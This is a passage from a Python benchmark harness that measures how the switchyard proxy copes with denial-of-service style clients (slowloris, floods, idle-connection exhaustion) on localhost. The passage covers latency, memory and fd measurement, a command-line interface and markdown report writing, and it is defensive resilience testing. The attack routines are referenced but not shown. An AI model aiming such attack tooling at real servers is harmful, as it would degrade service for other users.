        res = {"name": name, "params": params, "config": cfg, "nofile": nofile, "alive": alive,
               "stop_took": stopped - atk_stop}
        for kind in ("ka", "new", "direct"):
            for w, (lo, hi) in wins.items():
                lats = window(kind, lo, hi)
                res[f"{kind}_{w}_p99"] = pct(lats, 99)
                res[f"{kind}_{w}_p50"] = pct(lats, 50)
                res[f"{kind}_{w}_n"] = len(lats)
                res[f"{kind}_{w}_errors"] = sum(1 for x in lats if x is None)
            # The attack window without its first 3 s: a burst when the
            # attack starts, or a steady cost?
            res[f"{kind}_steady_p99"] = pct(window(kind, atk_start + 3, atk_stop), 99)

        def sample_window(lo, hi, idx):
            return [s[idx] for s in samples if lo <= s[0] < hi and s[idx] is not None]

        for idx, key in ((1, "rss"), (2, "fds"), (3, "tcpmem"), (7, "timewait")):
            res[f"{key}_before"] = med(sample_window(warm_end, atk_start, idx))
            res[f"{key}_during"] = max(sample_window(atk_start, atk_stop + 1, idx), default=None)
            tail = sample_window(after_start, after_end, idx)
            res[f"{key}_after"] = tail[-1] if tail else None
            tail = sample_window(again_stop, again_end + 1, idx)
            res[f"{key}_again"] = tail[-1] if tail else None
        for idx, key in ((4, "cpu_proxy"), (5, "cpu_backend"), (6, "cpu_attacker")):
            # CPU share (1.0 = one core) before and during the attack.
            for w, (lo, hi) in (("before", (warm_end, atk_start)), ("during", (atk_start, atk_stop))):
                pts = [(s[0], s[idx]) for s in samples if lo <= s[0] <= hi]
                res[f"{key}_{w}"] = ((pts[-1][1] - pts[0][1]) / (pts[-1][0] - pts[0][0])
                                     if len(pts) > 1 else None)
        victims_in_attack = sum(1 for k, t, _ in records if atk_start <= t < stopped)
        if req0 and req1:
            # Requests: minus the victims' (all of them reach the backend) and
            # the last snapshot's stub_status requests (one per backend).
            # Connections: minus those too; the victims' are kept alive, so
            # the rest are the proxy's new backend connections.
            res["backend_seen"] = (req1[1] - req0[1] - victims_in_attack - len(STATUS_URLS),
                                   req1[0] - req0[0] - len(STATUS_URLS))
        else:
            res["backend_seen"] = None
        res["stats"] = {"counters": st.c,
                        "lists": {k: {"n": len(v), "median": med(v), "max": max(v)} for k, v in st.lists.items()}}
        res["proxy_did"] = describe(name, st, res["backend_seen"] if name.startswith("h2") else None)
        with open(self.log_path) as f:
            log = f.read()
        res["log_panics"] = log.count("panicked")
        res["log_warn"] = sum(1 for line in log.splitlines() if " WARN " in line or " ERROR " in line)
        res["log_sample"] = [line for line in log.splitlines() if " WARN " in line or " ERROR " in line or "panicked" in line][:5]
        return res


def wait_port(port, proc=None, timeout=15):
    deadline = mono() + timeout
    while mono() < deadline:
        if proc is not None and proc.poll() is not None:
            raise SystemExit(f"process on port {port} exited with {proc.returncode}")
        try:
            with socket.create_connection((HOST, port), timeout=1):
                return
        except OSError:
            time.sleep(0.1)
    raise SystemExit(f"nothing listens on {port}")


async def stop_attack(name, task):
    STOP.set()
    task.cancel()
    done, _ = await asyncio.wait([task], timeout=10)
    await asyncio.sleep(0.2)  # connection helpers cancelled in `finally` blocks end
    left = [t for t in asyncio.all_tasks() if t is not asyncio.current_task() and not getattr(t, "keep", False)]
    if not done or left:
        for t in left[:5]:
            print("  left:", t, file=sys.stderr)
        # Numbers after this would be measured under a leftover attack.
        raise SystemExit(f"{name}: the attack did not stop within 10 s ({len(left)} tasks left)")


async def sleep_until(t):
    delay = t - mono()
    if delay > 0:
        await asyncio.sleep(delay)


def row(r, rounds=()):
    def trio(key, f, suffix="", again=False):
        ws = ("before", "during", "after") + (("again",) if again else ())
        return " / ".join(f(r.get(f"{key}_{w}{suffix}")) for w in ws)

    def errs(kind):
        e = [f"{w} {r[f'{kind}_{w}_errors']}" for w in ("before", "during", "after") if r[f"{kind}_{w}_errors"]]
        return f" (failed: {', '.join(e)})" if e else ""

    mib = lambda v: "–" if v is None else f"{v / 1024:.0f}"
    num = lambda v: "–" if v is None else f"{v:.0f}"
    notes = r["proxy_did"]
    if not r["alive"]:
        notes += "; **the proxy exited**"
    if r["log_panics"]:
        notes += f"; **{r['log_panics']} panic(s) in the log**"
    if r["log_warn"]:
        notes += f"; {r['log_warn']:,} WARN/ERROR lines in the proxy's log (both attack passes)"
    def all_rounds(kind):
        if len(rounds) < 2:
            return ""
        return " (rounds: " + ", ".join(ratio(x[f"{kind}_during_p99"], x[f"{kind}_before_p99"]) for x in rounds) + ")"

    return (f"| {r['name']} | {r['params']} | {trio('ka', fmt_ms, '_p99')}{errs('ka')} | "
            f"**{ratio(r['ka_during_p99'], r['ka_before_p99'])}**{all_rounds('ka')} | "
            f"{trio('new', fmt_ms, '_p99')}{errs('new')} | "
            f"{ratio(r['direct_during_p99'], r['direct_before_p99'])}{all_rounds('direct')} | "
            f"{trio('rss', mib, again=True)} | {trio('fds', num, again=True)} | {notes} |")


HEADER = ("| attack | parameters | keep-alive victim p99 ms (before / during / after) | p99 during ÷ before | "
          "new-connection victim p99 ms (before / during / after) | control p99 during ÷ before | "
          "proxy RSS MiB (before / peak during / after / after a 2nd attack) | "
          "proxy fds (before / peak during / after / after a 2nd attack) | "
          "what the proxy did to the attackers |\n"
          "| --- | --- | ---: | ---: | ---: | ---: | ---: | ---: | --- |")


def median_result(results):
    """Per attack, the round whose during/before ratio is the median."""
    def key(r):
        b, d = r["ka_before_p99"], r["ka_during_p99"]
        return float("inf") if not b or d is None else d / b
    return sorted(results, key=key)[(len(results) - 1) // 2]


async def main_async(args):
    global CONNECT_SLOTS
    CONNECT_SLOTS = asyncio.Semaphore(256)
    for port in BACKEND_PORTS + (OWN_BACKEND_PORT, PROXY_PORT):
        with socket.socket() as sock:
            if sock.connect_ex((HOST, port)) == 0:
                raise SystemExit(f"port {port} is in use (another bench/hostile.py running?)")
    tmp = tempfile.mkdtemp(prefix="hostile-")
    os.chmod(tmp, 0o755)
    run = Run(args, tmp)
    results = {}
    try:
        run.start_backend()
        for rnd in range(args.rounds):
            for name, params, fn, overrides in ATTACKS:
                if args.only and name not in args.only:
                    continue
                print(f"round {rnd + 1}: {name} …", flush=True)
                r = await run.attack(name, params, fn, overrides)
                results.setdefault(name, []).append(r)
                print(HEADER.splitlines()[0] if False else "  " + row(r), flush=True)
                print("  attacker:", json.dumps(r["stats"]["counters"]), flush=True)
                print("  CPU (cores) before/during: proxy %.2f/%.2f backend %.2f/%.2f attacker %.2f/%.2f;"
                      " keep-alive p50 ms %s/%s/%s, p99 without the attack's first 3 s %s;"
                      " control p99 ms %s/%s/%s; kernel TCP pages %s/%s/%s; TIME_WAIT %s/%s/%s" % (
                          r["cpu_proxy_before"], r["cpu_proxy_during"], r["cpu_backend_before"],
                          r["cpu_backend_during"], r["cpu_attacker_before"], r["cpu_attacker_during"],
                          fmt_ms(r["ka_before_p50"]), fmt_ms(r["ka_during_p50"]), fmt_ms(r["ka_after_p50"]),
                          fmt_ms(r["ka_steady_p99"]),
                          fmt_ms(r["direct_before_p99"]), fmt_ms(r["direct_during_p99"]),
                          fmt_ms(r["direct_after_p99"]), r["tcpmem_before"], r["tcpmem_during"],
                          r["tcpmem_after"], r["timewait_before"], r["timewait_during"],
                          r["timewait_after"]), flush=True)
                if r["log_sample"]:
                    print("  proxy log:", *r["log_sample"], sep="\n    ", flush=True)
                await asyncio.sleep(1)
    finally:
        for backend in getattr(run, "backends", ()):
            backend.terminate()
            backend.wait()
        if not args.keep:
            shutil.rmtree(tmp, ignore_errors=True)
    return results


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--victim", action="store_true", help=argparse.SUPPRESS)
    p.add_argument("--port", type=int, default=PROXY_PORT, help=argparse.SUPPRESS)
    p.add_argument("--start", type=float, help=argparse.SUPPRESS)
    p.add_argument("--end", type=float, help=argparse.SUPPRESS)
    p.add_argument("--host", default=VICTIM_HOST, help=argparse.SUPPRESS)
    p.add_argument("--out", help="markdown report (default: print only)")
    p.add_argument("--bin", default=os.path.join(ROOT, "target", "release", "switchyard"))
    p.add_argument("--only", type=lambda s: s.split(","), help="comma-separated attack names")
    p.add_argument("--rounds", type=int, default=1, help="repeat every attack; the table shows the median round")
    p.add_argument("--before", type=float, default=8)
    p.add_argument("--during", type=float, default=15)
    p.add_argument("--after", type=float, default=8)
    p.add_argument("--keep", action="store_true", help="keep the temp dir (configs, proxy logs)")
    p.add_argument("--nice", type=int, default=-10,
                   help="nice increment for the proxy, the backend and the victims (root only; "
                        "default -10: other jobs on a shared machine disturb the measurement less; "
                        "the attacker keeps the default priority)")
    p.add_argument("--proxy", choices=("switchyard", "nginx", "haproxy"), default="switchyard",
                   help="the proxy under attack (nginx and HAProxy set up like switchyard, for comparison)")
    p.add_argument("--json", help="also write every round's raw results here")
    p.add_argument("--limit", action="append", default=[], metavar="NAME=VALUE",
                   help="add a field to the proxy config's limits table, e.g. client_send_buffer=262144")
    args = p.parse_args()
    EXTRA_LIMITS.extend(args.limit)
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    raise_nofile()
    global NICE
    NICE = args.nice if os.geteuid() == 0 else 0
    if args.victim:
        asyncio.run(victim_main(args))
        return
    started = time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime())
    t = mono()
    results = asyncio.run(main_async(args))
    took = mono() - t
    lines = [HEADER] + [row(median_result(rs), rs) for rs in results.values()]
    table = "\n".join(lines)
    print()
    print(table)
    if args.json:
        with open(args.json, "w") as f:
            json.dump(results, f, indent=1, default=str)
    if args.out:
        write_report(args, started, took, results, table)


def write_report(args, started, took, results, table):
    wrapper = os.environ.get("HOSTILE_WRAPPER")
    cmd = (wrapper or "python3 bench/hostile.py") + "".join(" " + shlex.quote(a) for a in sys.argv[1:])
    commit = subprocess.run(["git", "-C", ROOT, "rev-parse", "--short", "HEAD"], capture_output=True,
                            text=True).stdout.strip()
    nofile = next(iter(results.values()))[0]["nofile"]
    rounds_note = (f"{args.rounds} rounds per attack; each row is the round with the median "
                   "during ÷ before ratio" if args.rounds > 1 else "one round per attack")
    out = io.StringIO()
    with out as f:
        f.write(f"## {started} · {os.cpu_count()} cores · commit {commit} · {rounds_note}\n\n")
        f.write(f"Command: `{cmd}` ({took / 60:.1f} min). Windows: before {args.before:g} s, "
                f"attack {args.during:g} s, after {args.after:g} s (2 s after the attack stopped). "
                f"The proxy's fd limit (RLIMIT_NOFILE soft) was {nofile}.\n\n")
        f.write(table + "\n")
        details = []
        for name, rs in results.items():
            for i, r in enumerate(rs):
                details.append(
                    f"- {name}, round {i + 1}: keep-alive p50 ms {fmt_ms(r['ka_before_p50'])} / "
                    f"{fmt_ms(r['ka_during_p50'])} / {fmt_ms(r['ka_after_p50'])}, p99 "
                    f"{fmt_ms(r['ka_before_p99'])} / {fmt_ms(r['ka_during_p99'])} / {fmt_ms(r['ka_after_p99'])} "
                    f"({r['ka_during_n']} requests during; p99 without the attack's first 3 s "
                    f"{fmt_ms(r['ka_steady_p99'])}); control p99 {fmt_ms(r['direct_before_p99'])} / "
                    f"{fmt_ms(r['direct_during_p99'])} / {fmt_ms(r['direct_after_p99'])}; kernel TCP memory "
                    f"{r['tcpmem_before']} / {r['tcpmem_during']} / {r['tcpmem_after']} pages; TIME_WAIT sockets "
                    f"{r['timewait_before']} / {r['timewait_during']} / {r['timewait_after']}; CPU (cores) before / during: "
                    f"proxy {r['cpu_proxy_before']:.2f} / {r['cpu_proxy_during']:.2f}, backend "
                    f"{r['cpu_backend_before']:.2f} / {r['cpu_backend_during']:.2f}, attacker "
                    f"{r['cpu_attacker_before']:.2f} / {r['cpu_attacker_during']:.2f}; proxy config "
                    f"`{json.dumps(r['config'])}`; attacker counters `{json.dumps(r['stats']['counters'])}`"
                    + (f"; proxy log warnings/errors: {r['log_warn']}" if r["log_warn"] else ""))
        f.write("\n### Per round\n\n" + "\n".join(details) + "\n")
        generated = f.getvalue()
    # Only the part between the markers is replaced: text written around it
    # (findings, analysis) survives a rerun.
    begin, end = "<!-- hostile.py: begin -->\n", "<!-- hostile.py: end -->\n"
    old = open(args.out).read() if os.path.exists(args.out) else REPORT_HEAD + begin + end
    if begin not in old or end not in old:
        old = old + "\n" + begin + end
    head, rest = old.split(begin, 1)
    tail = rest.split(end, 1)[1]
    with open(args.out, "w") as f:
        f.write(head + begin + generated + end + tail)


REPORT_HEAD = """# Hostile clients

How ordinary clients fare while switchyard is attacked by slow or abusive
clients, and what the attack costs the proxy (issue 14, "Hostile clients").

**Rerun:** `bench/hostile.sh --out bench/HOSTILE.md` (about 9 minutes; add
`--rounds 3` for medians, about 27 minutes; `--only "slowloris,flood"` for
some attacks). The wrapper raises the fd limit to the hard limit, installs
nginx-light if it is missing and builds the release binary; then
`bench/hostile.py` starts the backend (nginx,
`bench/configs/hostile-backend.conf`) and, for every attack, a fresh
switchyard with the Lua config shown per round below. Only the part of this
file between the `hostile.py` markers is rewritten, so the notes around it
survive a rerun. Python 3.11 standard library only; everything on 127.0.0.1
(ports 19611-19613 and 19621).

How it measures: a victim process sends 200 requests/s over 20 keep-alive
connections and 10 requests/s on new connections through the proxy, and
100 requests/s over 10 keep-alive connections straight to the backend (the
*control*: when it degrades too, the machine is busy, not only the proxy).
Requests are scheduled at fixed times and latency is counted from that time
(a stall is not hidden by coordinated omission); a failed request counts as
infinitely slow. Per attack: warm-up 2 s, *before* 8 s, the attack 15 s
(*during*), 2 s pause, *after* 8 s, then the same attack again for 7.5 s and
3 s of pause (the 4th RSS and fd figure: memory kept for reuse stays flat, a
leak grows). RSS is VmRSS and fds the entries of /proc/PID/fd of the proxy:
before = median of the before window, during = peak, after = last sample.
The proxy, the backend and the victims run at nice -10 (`--nice`): the
machine is shared with builds and tests, and this keeps their noise out of
the measurement; the attacker keeps the default priority.

Proxy settings (Lua, written per attack): the defaults (`header_read` 10 s,
`idle` 60 s, `h2_max_streams` 100, `max_connections` 10,000, workers = cores
= 2) except `body_idle` 10 s (default 60 s, so that the silent-body attack
ends within its window), `backend_idle` 5 s (default 30 s, so that backend
connections pooled during an attack are gone by the end of the after
window and the fd count shows anything else left open), `max_connections`
12,000 for the 10k-idle attack (the victims need slots too) and 256 for the
flood; access log off. The proxy does not set its own fd limit: it runs with
the soft `RLIMIT_NOFILE` it inherits (the wrapper raises it to the hard limit).

"""

if __name__ == "__main__":
    main()
